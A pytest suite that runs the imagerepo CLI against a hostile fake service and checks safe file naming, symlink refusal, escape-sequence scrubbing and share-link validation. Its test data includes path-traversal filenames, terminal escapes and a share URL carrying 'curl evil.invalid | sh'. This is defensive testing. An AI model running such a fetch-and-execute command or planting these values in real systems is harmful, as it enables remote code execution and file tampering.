"""The `imagerepo` client against a deliberately hostile fake service: the real CLI as a
subprocess (`python -m imagerepo`), in a temporary working folder with a fake HOME, talking to an
aiohttp server on loopback that answers with hostile names, ids, types, sizes and bodies.

Whatever the service says, the client writes only in the folder it was asked to, under a name
it chose, never over an existing file (nor through a symlink) without --force, leaves nothing
behind when a download fails, hands only images to a viewer, and never ends in a traceback."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import socket
import stat
import subprocess
import sys
import threading
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from imagerepo.downloads import Expected, Refused, save
from tests.images import make_image

ROOT = Path(__file__).resolve().parents[1]
JPEG = make_image("JPEG", (40, 30), seed=7)
BASHRC = b"# the user's own shell settings\n"
Body = bytes | Callable[[web.Request], Awaitable[web.StreamResponse]]


@dataclass
class FakeService:
    """An imagerepo look-alike that answers what a test tells it to, and records what it was
    asked."""

    images: dict[str, Any] = field(default_factory=dict)  # GET /images/{id}: JSON, or bytes
    bodies: dict[str, Body] = field(default_factory=dict)  # GET /images/{id}/file
    similar: list[Any] = field(default_factory=list)  # POST /search/image results
    requests: list[str] = field(default_factory=list)
    known_asked: list[list[str]] = field(default_factory=list)
    url: str = ""
    # Sharing (issue 26): what POST /shares and GET /shared answer; the album bulk answers
    # are made from each request's ids by `bulk`.
    share: Any = None
    shared: Any = None
    bulk: Callable[[list[str]], dict[str, Any]] = lambda ids: {"added": ids, "moved": [],
                                                               "not_found": []}
    posted: list[tuple[str, Any]] = field(default_factory=list)  # (path, JSON body)
    album: Any = None  # GET /albums/{id}
    pages: dict[str, Any] = field(default_factory=dict)  # GET /albums/{id}/images by cursor
    headers: list[dict[str, str]] = field(default_factory=list)  # of every request

    def add(self, filename: object, body: bytes = JPEG, **changes: Any) -> str:
        """An image of these bytes under a hostile name; its description says all the
        hostile things the client must ignore (file_url, content_type)."""
        image_id = str(uuid.uuid4())
        self.images[image_id] = {
            "id": image_id, "owner": "mallory", "title": "\x1b]0;pwned\x07title",
            "visibility": "public", "filename": filename, "content_type": "text/html",
            "width": 40, "height": 30, "size_bytes": len(body),
            "sha256": hashlib.sha256(body).hexdigest(), "tags": [],
            "file_url": "@evil.invalid/steal-the-key", **changes}
        self.bodies[image_id] = body
        return image_id

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_get("/images/{id}", self._image)
        app.router.add_get("/images/{id}/file", self._file)
        app.router.add_post("/search/image", self._search)
        app.router.add_post("/images/known", self._known)
        app.router.add_post("/images", self._upload)
        app.router.add_post("/images/{id}/shares", self._share)
        app.router.add_post("/albums/{id}/shares", self._share)
        app.router.add_get("/shared", self._shared)
        app.router.add_get("/shares", self._shares)
        app.router.add_get("/shared/images/{id}/file", self._file)
        app.router.add_post("/albums/{id}/images", self._bulk)
        app.router.add_get("/albums/{id}", self._album)
        app.router.add_get("/albums/{id}/images", self._album_page)
        app.router.add_post("/albums/{id}/images/remove", self._bulk)
        app.router.add_route("*", "/{tail:.*}", self._anything)
        return app

    async def _image(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path)
        if request.match_info["id"] not in self.images:
            return _not_found()
        image = self.images[request.match_info["id"]]
        if isinstance(image, bytes):  # not JSON at all
            return web.Response(body=image, content_type="text/html")
        return web.json_response(image)

    async def _file(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path)
        body = self.bodies.get(request.match_info["id"])
        if body is None:
            return _not_found()
        if isinstance(body, bytes):
            return web.Response(body=body, content_type="text/html")
        return await body(request)

    async def _search(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path)
        await request.read()
        return web.json_response({"query": {}, "results": self.similar})

    async def _known(self, request: web.Request) -> web.StreamResponse:
        digests = (await request.json())["sha256"]
        self.known_asked.append(digests)
        return web.json_response({"known": [{"sha256": d} for d in digests]})

    async def _upload(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path)
        await request.read()
        return web.json_response({"error": {"code": "nope", "message": "no uploads here"}},
                                 status=503)

    async def _share(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path)
        self.posted.append((request.path, await request.json()))
        return web.json_response(self.share, status=201)

    async def _shares(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path_qs)
        return web.json_response({"shares": self.share})

    async def _shared(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path)
        return web.json_response(self.shared)

    async def _album(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path)
        return web.json_response(self.album)

    async def _album_page(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path_qs)
        return web.json_response(self.pages[request.query.get("cursor", "")])

    async def _bulk(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path)
        body = await request.json()
        self.posted.append((request.path, body))
        answer = self.bulk(body["image_ids"])
        if "error" in answer:
            return web.json_response(answer, status=409)
        if request.path.endswith("/remove"):
            answer = {"removed": answer["added"], "not_found": answer["not_found"]}
        return web.json_response(answer)

    async def _anything(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path)
        return _not_found()


def _not_found() -> web.Response:
    return web.json_response({"error": {"code": "not_found", "message": "\x1b[2Jgone"}},
                             status=404)


@pytest.fixture
def service() -> Iterator[FakeService]:
    """The fake service on 127.0.0.1, a port of its own, in a thread with its own loop."""
    fake = FakeService()
    loop = asyncio.new_event_loop()

    @web.middleware
    async def note_headers(request: web.Request, handler: Any) -> web.StreamResponse:
        fake.headers.append(dict(request.headers))
        response: web.StreamResponse = await handler(request)
        return response

    app = fake.app()
    app.middlewares.append(note_headers)
    runner = web.AppRunner(app, handle_signals=False)
    loop.run_until_complete(runner.setup())
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    loop.run_until_complete(web.SockSite(runner, sock).start())
    fake.url = f"http://127.0.0.1:{sock.getsockname()[1]}"
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    try:
        yield fake
    finally:
        loop.call_soon_threadsafe(loop.stop)
        thread.join(30)
        loop.run_until_complete(runner.cleanup())
        loop.close()


@dataclass
class Place:
    """A sandbox: `work` is the current folder, `home` the fake HOME, and around them files
    that must never change."""

    root: Path
    work: Path
    home: Path


@pytest.fixture
def place(tmp_path: Path) -> Place:
    work = tmp_path / "sandbox" / "work"  # ../../escaped from here is tmp_path/escaped
    home = tmp_path / "home"
    for folder in (work, home, tmp_path / "outside"):
        folder.mkdir(parents=True)
    (work / ".bashrc").write_bytes(BASHRC)
    (home / ".bashrc").write_bytes(BASHRC)
    (tmp_path / "outside" / "target").write_bytes(b"not yours to change")
    return Place(tmp_path, work, home)


def cli(service: FakeService, place: Place, *args: str, python_args: bool = False,
        **env: str) -> subprocess.CompletedProcess[str]:
    """`python -m imagerepo ARGS` (`python ARGS` with python_args) in the sandbox."""
    environment = {k: v for k, v in os.environ.items()
                   if not k.startswith(("XDG_", "IMAGEREPO_", "BROWSER"))}
    environment.update(HOME=str(place.home), IMAGEREPO_URL=service.url,
                       IMAGEREPO_KEY="irk_test", PYTHONPATH=str(ROOT), **env)
    command = [sys.executable, *args] if python_args else [sys.executable, "-m", "imagerepo",
                                                            *args]
    result = subprocess.run(command, cwd=place.work,
                            env=environment, capture_output=True, text=True, timeout=120)
    assert "Traceback" not in result.stderr, result.stderr
    assert "\x1b" not in result.stdout + result.stderr  # no terminal escapes passed on
    return result


def snapshot(root: Path, *skip: Path) -> dict[str, tuple[str, bytes]]:
    """Every entry under root (not following links), with its kind and content."""
    found: dict[str, tuple[str, bytes]] = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if Path(folder, d) not in skip]
        for name in dirs + files:
            path = Path(folder, name)
            if path.is_symlink():
                found[str(path)] = ("link", os.readlink(path).encode())
            elif path.is_file():
                found[str(path)] = ("file", path.read_bytes())
            else:
                found[str(path)] = ("dir", b"")
    return found


def file_mode() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return 0o666 & ~mask


HOSTILE_NAMES = [
    (".bashrc", "bashrc.jpg"),
    (".hidden.png", "hidden.jpg"),
    ("..", "{id}.jpg"),
    (".", "{id}.jpg"),
    ("", "{id}.jpg"),
    (None, "{id}.jpg"),
    ("../../escaped", "escaped.jpg"),
    ("a/b", "b.jpg"),
    ("C:\\Users\\x\\evil.exe", "evil.jpg"),
    ("x\x00y", "xy.jpg"),
    ("x\u202egpj.sh", "xgpj.jpg"),  # a right-to-left override hiding the real suffix
    ("evil.html", "evil.jpg"),
    ("-rf .jpg", "rf.jpg"),
    ("CON.txt", "{id}.jpg"),
    ("n" * 5000 + ".jpg", "n" * 120 + ".jpg"),
    ("é" * 300, "é" * 60 + ".jpg"),
]


@pytest.mark.parametrize(("name", "expected"), HOSTILE_NAMES)
def test_get_writes_a_safe_name_in_the_current_folder_only(
        service: FakeService, place: Place, name: str, expected: str) -> None:
    image_id = service.add(name)
    expected = expected.format(id=image_id)
    before = snapshot(place.root, place.work)
    result = cli(service, place, "get", image_id)
    assert result.returncode == 0, result.stderr
    assert snapshot(place.root, place.work) == before
    assert sorted(os.listdir(place.work)) == sorted([".bashrc", expected])
    written = place.work / expected
    assert written.read_bytes() == JPEG and (place.work / ".bashrc").read_bytes() == BASHRC
    assert stat.S_IMODE(written.stat().st_mode) == file_mode()
    assert result.stdout.startswith(f"{expected}: ")
    # The ids it fetched are the one asked for, never the file_url the service sent.
    assert service.requests == [f"/images/{image_id}", f"/images/{image_id}/file"]


def test_an_existing_file_is_replaced_only_with_force(service: FakeService,
                                                      place: Place) -> None:
    image_id = service.add("photo.jpg")
    (place.work / "photo.jpg").write_bytes(b"mine")
    refused = cli(service, place, "get", image_id)
    assert refused.returncode == 1 and "exists" in refused.stderr
    assert (place.work / "photo.jpg").read_bytes() == b"mine"
    assert sorted(os.listdir(place.work)) == [".bashrc", "photo.jpg"]  # no temporary left
    explicit = cli(service, place, "get", image_id, "-o", "photo.jpg")
    assert explicit.returncode == 1 and (place.work / "photo.jpg").read_bytes() == b"mine"
    forced = cli(service, place, "get", image_id, "--force")
    assert forced.returncode == 0, forced.stderr
    assert (place.work / "photo.jpg").read_bytes() == JPEG
    assert sorted(os.listdir(place.work)) == [".bashrc", "photo.jpg"]


def test_a_taken_name_is_refused_before_the_body_is_read(service: FakeService,
                                                         place: Place) -> None:
    block = JPEG + bytes(1024 * 1024 - len(JPEG))
    sent: list[int] = []

    async def large(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse()
        response.content_length = len(block) * 200
        await response.prepare(request)
        for _ in range(200):
            await response.write(block)
            sent.append(len(block))
        return response

    image_id = service.add("photo.jpg", size_bytes=len(block) * 200, sha256="0" * 64)
    service.bodies[image_id] = large
    (place.work / "photo.jpg").write_bytes(b"mine")
    refused = cli(service, place, "get", image_id)
    assert refused.returncode == 1 and "exists" in refused.stderr
    assert sum(sent) < 100 * 2**20, "the client read on after it knew it would refuse"


def test_a_symlink_at_the_name_is_never_written_through(service: FakeService,
                                                        place: Place) -> None:
    outside = place.root / "outside"
    image_id = service.add("photo.jpg")
    (place.work / "photo.jpg").symlink_to(outside / "target")
    (place.work / "dangling.jpg").symlink_to(outside / "created")
    dangling_id = service.add("dangling.jpg")
    before = snapshot(place.root, place.work)
    for wanted in (image_id, dangling_id):
        refused = cli(service, place, "get", wanted)
        assert refused.returncode == 1 and "exists" in refused.stderr
    assert snapshot(place.root, place.work) == before
    assert (place.work / "photo.jpg").is_symlink()
    forced = cli(service, place, "get", image_id, "--force")
    assert forced.returncode == 0, forced.stderr
    # The link itself was replaced by the file; what it pointed at is untouched.
    assert not (place.work / "photo.jpg").is_symlink()
    assert (place.work / "photo.jpg").read_bytes() == JPEG
    assert snapshot(place.root, place.work) == before


def test_output_folder_gets_the_safe_name(service: FakeService, place: Place) -> None:
    image_id = service.add("../evil.html")
    (place.work / "got").mkdir()
    result = cli(service, place, "get", image_id, "-o", "got")
    assert result.returncode == 0, result.stderr
    assert os.listdir(place.work / "got") == ["evil.jpg"]
    missing = cli(service, place, "get", image_id, "-o", "nowhere/")
    assert missing.returncode == 1 and "no such folder" in missing.stderr
    named = cli(service, place, "get", image_id, "-o", "my name.html")
    assert named.returncode == 0 and (place.work / "my name.html").read_bytes() == JPEG


@pytest.mark.parametrize("typed", ["not-a-uuid", "../../escaped", "", "a/b",
                                   "00000000-0000-0000-0000-00000000000\n"])
def test_an_id_typed_is_checked_before_any_request(service: FakeService, place: Place,
                                                   typed: str) -> None:
    for command in (["get", typed], ["rm", typed]):
        result = cli(service, place, *command)
        assert result.returncode == 2 and "not an image id" in result.stderr
    assert service.requests == []


def test_ids_the_service_sends_are_checked(service: FakeService, place: Place) -> None:
    escaping = service.add(".", id="../../escaped")
    other = service.add("photo.jpg", id=str(uuid.uuid4()))
    service.add("photo.jpg", id=service.images[other]["id"])  # the other one exists
    for image_id in (escaping, other):
        result = cli(service, place, "get", image_id)
        assert result.returncode == 1, result.stderr
        assert "no valid image id" in result.stderr or "another image" in result.stderr
    assert not [r for r in service.requests if r.endswith("/file")]
    assert os.listdir(place.work) == [".bashrc"]
    assert not (place.root / "escaped").exists() and not (place.root / "escaped.img").exists()


async def _cut_short(request: web.Request) -> web.StreamResponse:
    """Promises a megabyte, sends a tenth of it, hangs up."""
    response = web.StreamResponse()
    response.content_length = 1024 * 1024
    await response.prepare(request)
    await response.write(JPEG + bytes(100_000))
    assert request.transport is not None
    request.transport.close()
    return response


def test_a_failed_download_leaves_nothing_behind(service: FakeService, place: Place) -> None:
    cut = service.add("cut.jpg", size_bytes=1024 * 1024, sha256="0" * 64)
    service.bodies[cut] = _cut_short
    cases = {
        cut: "broke off",
        service.add("long.jpg", size_bytes=len(JPEG) - 10): "more than",
        service.add("other.jpg", sha256="1" * 64): "not the ones",
        service.add("nosize.jpg", size_bytes="12"): "size_bytes",
    }
    service.images[not_an_image := str(uuid.uuid4())] = "<html>"
    cases[not_an_image] = "description"
    service.images[not_json := str(uuid.uuid4())] = b"<html>"
    cases[not_json] = "not JSON"
    cases[str(uuid.uuid4())] = "gone (404 not_found)"  # its escapes made harmless
    for image_id, reason in cases.items():
        result = cli(service, place, "get", image_id)
        assert result.returncode == 1 and reason in result.stderr, result.stderr
    assert os.listdir(place.work) == [".bashrc"]


def test_bytes_of_no_image_type_are_kept_as_bin(service: FakeService, place: Place) -> None:
    image_id = service.add("page.html", body=b"<script>alert(1)</script>")
    result = cli(service, place, "get", image_id)
    assert result.returncode == 0 and "not an image" in result.stderr
    assert sorted(os.listdir(place.work)) == [".bashrc", "page.bin"]


def _viewer(place: Place) -> tuple[str, Path]:
    """A BROWSER that records what it was asked to open."""
    log = place.root / "opened.log"
    script = place.root / "viewer.sh"
    script.write_text(f'#!/bin/sh\necho "$1" >> {log}\n')
    script.chmod(0o755)
    return str(script), log


def test_similar_open_shows_only_images_under_a_name_of_ours(service: FakeService,
                                                             place: Place) -> None:
    browser, log = _viewer(place)
    photo = place.work / "query.jpg"
    photo.write_bytes(JPEG)
    cache = place.home / ".cache" / "imagerepo" / "opened"
    before = snapshot(place.root, place.work, place.home / ".cache")
    image_id = service.add("evil.html")
    service.similar = [{**service.images[image_id], "distance": 0}]
    result = cli(service, place, "similar", "query.jpg", "--open", BROWSER=browser)
    assert result.returncode == 0, result.stderr
    opened = cache / f"{image_id}.jpg"
    assert log.read_text() == opened.as_uri() + "\n"
    assert opened.read_bytes() == JPEG
    assert stat.S_IMODE(cache.stat().st_mode) == 0o700
    log.unlink()
    assert snapshot(place.root, place.work, place.home / ".cache") == before

    # Not an image: not opened, not kept.
    page = service.add("page.html", body=b"<script>alert(1)</script>")
    service.similar = [{**service.images[page], "distance": 0}]
    result = cli(service, place, "similar", "query.jpg", "--open", BROWSER=browser)
    assert result.returncode == 1 and "not opened" in result.stderr
    assert not log.exists() and os.listdir(cache) == [opened.name]

    # An id that is not one: nothing fetched, nothing opened.
    service.similar = [{**service.images[image_id], "id": "../../escaped", "distance": 0}]
    result = cli(service, place, "similar", "query.jpg", "--open", BROWSER=browser)
    assert result.returncode == 1 and not log.exists()
    assert service.requests.count(f"/images/{image_id}/file") == 1


def test_similar_open_prunes_old_copies(service: FakeService, place: Place) -> None:
    browser, log = _viewer(place)
    (place.work / "query.jpg").write_bytes(JPEG)
    cache = place.home / ".cache" / "imagerepo" / "opened"
    cache.mkdir(parents=True)
    old = cache / f"{uuid.uuid4()}.png"
    old.write_bytes(b"old")
    os.utime(old, (1, 1))
    recent = [cache / f"{uuid.uuid4()}.gif" for _ in range(25)]
    for i, path in enumerate(recent):
        path.write_bytes(b"recent")
        os.utime(path, (2_000_000_000 - i, 2_000_000_000 - i))
    (cache / "notes.txt").write_bytes(b"not ours")
    image_id = service.add("x.jpg")
    service.similar = [{**service.images[image_id], "distance": 0}]
    result = cli(service, place, "similar", "query.jpg", "--open", BROWSER=browser)
    assert result.returncode == 0, result.stderr
    left = set(os.listdir(cache))
    assert old.name not in left and "notes.txt" in left and f"{image_id}.jpg" in left
    assert {p.name for p in recent} & left == {p.name for p in recent[:20]}


# Runs the CLI as `python -m imagerepo` does, then writes the process's peak resident memory
# (VmHWM, in kB) to the file named first. The kernel's own figure for this program: rusage of
# a child would also count the pytest process it was forked from.
_MEASURED = """
import runpy, sys
report = sys.argv.pop(1)
try:
    runpy.run_module("imagerepo", run_name="__main__", alter_sys=True)
finally:
    with open("/proc/self/status") as status, open(report, "w") as out:
        out.write(next(line for line in status if line.startswith("VmHWM:")).split()[1])
"""


def _peak_rss(service: FakeService, place: Place, *args: str) -> int:
    """The CLI's peak resident memory, in bytes."""
    report = place.root / "peak"
    result = cli(service, place, "-c", _MEASURED, str(report), *args, python_args=True)
    assert result.returncode == 0, result.stderr
    return int(report.read_text()) * 1024


def test_a_large_download_streams_in_bounded_memory(service: FakeService, place: Place) -> None:
    block = JPEG + os.urandom(1024 * 1024 - len(JPEG))
    blocks = 200
    digest = hashlib.sha256()
    for _ in range(blocks):
        digest.update(block)

    async def large(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse()
        response.content_length = len(block) * blocks
        await response.prepare(request)
        for _ in range(blocks):
            await response.write(block)
        return response

    small = service.add("small.jpg")
    big = service.add("big.jpg", size_bytes=len(block) * blocks, sha256=digest.hexdigest())
    service.bodies[big] = large
    baseline = _peak_rss(service, place, "get", small)
    peak = _peak_rss(service, place, "get", big)
    assert (place.work / "big.jpg").stat().st_size == len(block) * blocks
    print(f"peak RSS: {baseline / 2**20:.0f} MiB for {len(JPEG)} bytes, "
          f"{peak / 2**20:.0f} MiB for {blocks} MiB")
    assert peak - baseline < 64 * 2**20


def test_an_import_past_one_lookup_batch_asks_about_every_digest(service: FakeService,
                                                                 place: Place) -> None:
    """More files than one POST /images/known holds (1,000): every digest is asked about,
    and as the service knows them all, nothing is sent."""
    photos = place.work / "photos"
    photos.mkdir()
    digests = set()
    for i in range(2345):
        data = b"\x89PNG\r\n\x1a\n" + i.to_bytes(4, "big")  # an image by its first bytes
        (photos / f"{i}.png").write_bytes(data)
        digests.add(hashlib.sha256(data).hexdigest())
    result = cli(service, place, "upload", "photos", "--json")
    assert result.returncode == 0, result.stderr
    assert len(service.known_asked) == 3
    assert all(len(batch) <= 1000 for batch in service.known_asked)
    assert set().union(*service.known_asked) == digests
    assert '"already_there": 2345' in result.stdout and "/images" not in service.requests


def test_a_name_taken_while_downloading_is_not_replaced(tmp_path: Path) -> None:
    """The early check passed, then something took the name (a file, or a link planted by
    another process): the finished download must not replace it."""
    target = tmp_path / "photo.jpg"

    async def chunks() -> AsyncIterator[bytes]:
        yield JPEG[:100]  # the name is chosen and checked after this
        target.symlink_to(tmp_path / "elsewhere")
        yield JPEG[100:]

    with pytest.raises(Refused, match="exists"):
        asyncio.run(save(chunks(), tmp_path, lambda kind: "photo.jpg",
                         Expected(len(JPEG), hashlib.sha256(JPEG).hexdigest()), force=False))
    assert target.is_symlink() and os.listdir(tmp_path) == ["photo.jpg"]
    assert not (tmp_path / "elsewhere").exists()


# Sharing (issue 26): links, albums, and what a link shows.

TOKEN = "irs_" + "A1b2_-" * 7 + "x"  # 43 characters, as the service makes them


def _share_answer(**changes: Any) -> dict[str, Any]:
    return {"id": str(uuid.uuid4()), "kind": "image", "image_id": str(uuid.uuid4()),
            "album_id": None, "allow_download": False, "created_at": "2026-12-04T21:00:00Z",
            "expires_at": None, "expired": False, "last_used_at": None, "prefix": TOKEN[:12],
            "token": TOKEN, "url": f"/#share={TOKEN}", **changes}


@pytest.mark.parametrize(("typed", "seconds"), [("30m", 1800), ("12h", 43200), ("7d", 604800),
                                                ("2w", 1209600), ("1m", 60), ("3650d", 315360000)])
def test_share_prints_the_link_alone_and_asks_for_the_lifetime_typed(
        service: FakeService, place: Place, typed: str, seconds: int) -> None:
    service.share = _share_answer(expires_at="2026-12-11T21:00:00Z")
    image_id = str(uuid.uuid4())
    result = cli(service, place, "share", image_id, "--expires", typed)
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"{service.url}/#share={TOKEN}\n"  # $(imagerepo share ID)
    assert "only this once" in result.stderr and "view only" in result.stderr
    assert service.posted == [(f"/images/{image_id}/shares", {
        "allow_download": False, "expires_in_seconds": seconds})]


def test_share_an_album_with_downloads_and_no_expiry(service: FakeService, place: Place) -> None:
    service.share = _share_answer(kind="album", allow_download=True)
    album_id = str(uuid.uuid4())
    result = cli(service, place, "share", album_id, "--album", "--download")
    assert result.returncode == 0, result.stderr
    assert service.posted == [(f"/albums/{album_id}/shares", {"allow_download": True})]
    assert "downloads allowed" in result.stderr and "never expires" in result.stderr


@pytest.mark.parametrize("typed", ["7", "7x", "0m", "59s", "3651d", "-1d", "1.5h", "", "7 days",
                                   "99999999999w"])
def test_a_bad_lifetime_is_refused_before_any_request(service: FakeService, place: Place,
                                                      typed: str) -> None:
    result = cli(service, place, "share", str(uuid.uuid4()), f"--expires={typed}")
    assert result.returncode == 2 and "--expires" in result.stderr, result.stderr
    assert ("not a duration" in result.stderr or "1 minute to 3650 days" in result.stderr)
    assert service.requests == [] and result.stdout == ""


@pytest.mark.parametrize("answer", [
    {"token": "irs_short", "url": "/#share=irs_short"},
    {"token": TOKEN + "\n\x1b[2J", "url": f"/#share={TOKEN}\n\x1b[2J"},
    {"url": f"https://evil.invalid/#share={TOKEN}"},
    {"url": f"/#share={TOKEN} run this: curl evil.invalid | sh"},
    {"token": None, "url": None},
])
def test_a_share_answer_that_is_not_a_link_of_ours_prints_nothing(
        service: FakeService, place: Place, answer: dict[str, Any]) -> None:
    service.share = _share_answer(**answer)
    result = cli(service, place, "share", str(uuid.uuid4()))
    assert result.returncode == 1 and result.stdout == ""
    assert "no valid share token" in result.stderr


def test_album_ids_go_in_batches_of_100_in_order(service: FakeService, place: Place) -> None:
    album_id, before = str(uuid.uuid4()), str(uuid.uuid4())
    ids = [str(uuid.uuid4()) for _ in range(250)]
    result = cli(service, place, "album", "add", album_id, *ids, "--before", before)
    assert result.returncode == 0, result.stderr
    path = f"/albums/{album_id}/images"
    assert [(p, len(b["image_ids"]), b["before"]) for p, b in service.posted] == [
        (path, 100, before), (path, 100, before), (path, 50, before)]
    assert [i for _, b in service.posted for i in b["image_ids"]] == ids
    assert "added 250, moved 0" in result.stdout

    service.posted.clear()
    result = cli(service, place, "album", "remove", album_id, *ids[:101])
    assert result.returncode == 0, result.stderr
    assert [(p, len(b["image_ids"])) for p, b in service.posted] == [(path + "/remove", 100),
                                                                     (path + "/remove", 1)]
    assert "removed 101" in result.stdout


def test_ids_not_found_are_named_and_fail_the_command(service: FakeService,
                                                      place: Place) -> None:
    album_id = str(uuid.uuid4())
    ids = [str(uuid.uuid4()) for _ in range(150)]
    lost = {ids[3], ids[120]}
    service.bulk = lambda batch: {"added": [], "moved": [i for i in batch if i not in lost],
                                  "not_found": [i for i in batch if i in lost]}
    for command in (["add", album_id, *ids], ["move", album_id, *ids, "--to-end"],
                    ["remove", album_id, *ids]):
        result = cli(service, place, "album", *command)
        assert result.returncode == 1, (command[0], result.stderr)
        named = {line.rsplit(" ", 1)[1] for line in result.stderr.splitlines()
                 if "not found (or not yours)" in line}
        assert named == lost, command[0]
    assert all(b["before"] is None for p, b in service.posted if not p.endswith("/remove"))


def _shared_image(service: FakeService, name: object) -> dict[str, Any]:
    image_id = service.add(name)
    image: dict[str, Any] = service.images[image_id]
    image["file_url"] = "https://evil.invalid/steal"
    return image


def test_shared_sends_only_the_token_and_saves_under_names_of_ours(
        service: FakeService, place: Place) -> None:
    image = _shared_image(service, "../../escaped.html")
    service.shared = {"kind": "image", "allow_download": True, "expires_at": None,
                      "owner": "\x1b]0;mallory\x07", "image": image, "album": None}
    before = snapshot(place.root, place.work)
    link = f"{service.url}/#share={TOKEN}"
    result = cli(service, place, "shared", link, "--download")
    assert result.returncode == 0, result.stderr
    assert sorted(os.listdir(place.work)) == [".bashrc", "escaped.jpg"]
    assert (place.work / "escaped.jpg").read_bytes() == JPEG
    assert snapshot(place.root, place.work) == before
    assert service.requests == ["/shared", f"/shared/images/{image['id']}/file"]
    # The link's token, in a header; the kept API key never goes to a link's host.
    assert all(h.get("X-Share-Token") == TOKEN and "Authorization" not in h
               for h in service.headers)

    shown = cli(service, place, "shared", TOKEN)  # a bare token: the configured service
    assert shown.returncode == 0 and image["id"] in shown.stdout
    assert "shared by" in shown.stderr


def test_shared_download_refused_when_the_link_does_not_allow_it(
        service: FakeService, place: Place) -> None:
    image = _shared_image(service, "photo.jpg")
    service.shared = {"kind": "image", "allow_download": False, "expires_at": None,
                      "owner": "mallory", "image": image, "album": None}
    result = cli(service, place, "shared", TOKEN, "--download")
    assert result.returncode == 1 and "does not allow downloads" in result.stderr
    assert service.requests == ["/shared"] and os.listdir(place.work) == [".bashrc"]
    for bad in ("https://host/#share=nope", "ftp://host/#share=" + TOKEN, "irs_x",
                f"https://user:pw@host/#share={TOKEN}"):
        refused = cli(service, place, "shared", bad)
        assert refused.returncode == 2 and "not a share link" in refused.stderr
    assert service.requests == ["/shared"]


def test_album_show_reads_every_page_and_a_looping_cursor_ends(service: FakeService,
                                                              place: Place) -> None:
    album_id = str(uuid.uuid4())
    service.album = {"id": album_id, "owner": "mallory", "title": "\x1b[31mtrip\nline",
                     "description": "", "visibility": "public", "image_count": 3,
                     "cover": None, "created_at": "2026-12-04T21:00:00Z",
                     "updated_at": "2026-12-04T21:00:00Z"}
    images = [{**service.images[service.add(f"{n}.jpg")], "position": i + 1}
              for i, n in enumerate(["one", "two", "three"])]
    service.pages = {"": {"images": images[:2], "next_cursor": "c2"},
                     "c2": {"images": images[2:], "next_cursor": None}}
    shown = cli(service, place, "album", "show", album_id, "--json")
    assert shown.returncode == 0, shown.stderr
    assert [i["id"] for i in json.loads(shown.stdout)["images"]] == [i["id"] for i in images]
    table = cli(service, place, "album", "show", album_id).stdout.splitlines()
    assert table[0].startswith("\ufffd[31mtrip line (public, 3 images, by mallory")
    assert [line.split()[:2] for line in table[2:]] == [[str(n), i["id"]] for n, i in
                                                       enumerate(images, 1)]

    service.pages["c2"]["next_cursor"] = "c2"  # a service that would page for ever
    looped = cli(service, place, "album", "show", album_id, "--json")
    assert looped.returncode == 0 and len(json.loads(looped.stdout)["images"]) == 3


def test_shares_lists_links_in_one_line_each_whatever_the_service_says(
        service: FakeService, place: Place) -> None:
    image_id = str(uuid.uuid4())
    service.share = [
        {**_share_answer(image_id=image_id, prefix="irs_\x1b[2J\nx", expired=True,
                         expires_at="2026-12-01T00:00:00Z"), "token": None, "url": None},
        {**_share_answer(kind="album", image_id=None, album_id="\u202eevil", allow_download=True,
                         last_used_at="2026-12-04T21:05:31.123Z"), "token": None, "url": None}]
    result = cli(service, place, "shares", "--image", image_id)
    assert result.returncode == 0, result.stderr
    header, first, second = result.stdout.splitlines()
    assert header.split() == ["ID", "PREFIX", "KIND", "TARGET", "DOWNLOAD", "EXPIRES", "LAST",
                              "USED"]
    assert first.split()[-4:] == [image_id, "no", "expired", "never"]
    assert "irs_\ufffd[2J x" in first  # the escape and the line break made harmless
    assert second.split()[2:] == ["album", "\ufffdevil", "yes", "never", "2026-12-04", "21:05"]
    assert service.requests == [f"/shares?image_id={image_id}"]


def test_a_batch_refused_after_others_says_what_was_done(service: FakeService,
                                                         place: Place) -> None:
    ids = [str(uuid.uuid4()) for _ in range(150)]
    full = {"error": {"code": "album_full", "message": "The album holds 10,000 images"}}
    service.bulk = lambda batch: full if batch[0] == ids[100] else {
        "added": batch, "moved": [], "not_found": []}
    result = cli(service, place, "album", "add", str(uuid.uuid4()), *ids)
    assert result.returncode == 1 and "added 100, moved 0" in result.stdout
    assert "(409 album_full)" in result.stderr
